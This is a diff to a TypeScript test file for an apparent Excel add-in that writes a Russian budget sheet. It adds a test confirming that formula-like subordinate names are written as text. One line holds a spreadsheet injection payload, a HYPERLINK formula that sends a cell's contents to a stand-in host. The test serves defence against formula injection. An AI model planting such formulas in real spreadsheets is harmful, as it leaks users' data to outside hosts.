@@ -107,8 +107,25 @@ describe('the «Бюджет ЭПБ» sheet', () => {
     expect(l.values[4]).toEqual([...BUDGET_HEADERS]);
     expect(l.values[7]).toEqual(['ППО № 3', 2, 0, 4, 34, 68, 102]);
     expect(l.values[8]).toEqual(['Итого: Районная организация', 3, 1, 6, 51, 102, 153]);
-    expect(l.numberFormats[8]).toEqual(['General', '0', '0', '0', '#,##0.00', '#,##0.00', '#,##0.00']);
+    expect(l.numberFormats[8]).toEqual(['@', '0', '0', '0', '#,##0.00', '#,##0.00', '#,##0.00']);
     expect({ first: l.firstDataRow, total: l.totalRow }).toEqual({ first: 6, total: 9 });
+  });
+
+  test('a subordinate named like a formula is written as text: its name cell has number format «@», set before the values', async () => {
+    const evil = '=HYPERLINK("http://example.invalid/?"&B2,"Нажмите")';
+    const b = budget(3);
+    b.rows[0] = { ...b.rows[0], name: evil };
+    b.rows[1] = { ...b.rows[1], name: '-1+2' };
+    const x = mockExcel(false);
+    await writeBudgetSheet(x.context, b);
+    const table = x.ranges.find((r) => r.values)!;
+    for (const name of [evil, '-1+2']) {
+      const i = table.values!.findIndex((r) => r[0] === name);
+      expect(i).toBeGreaterThan(0);
+      expect(table.numberFormat![i]).toEqual(['@', '0', '0', '0', '#,##0.00', '#,##0.00', '#,##0.00']);
+    }
+    table.values!.forEach((r, i) => r.forEach((v, c) => { if (typeof v === 'string') expect(table.numberFormat![i][c]).toBe('@'); }));
+    expect(Object.keys(table).indexOf('numberFormat')).toBeLessThan(Object.keys(table).indexOf('values'));
   });
 
   test('a new sheet: two syncs, the table in one write, a clustered column chart of the children, frozen header', async () => {
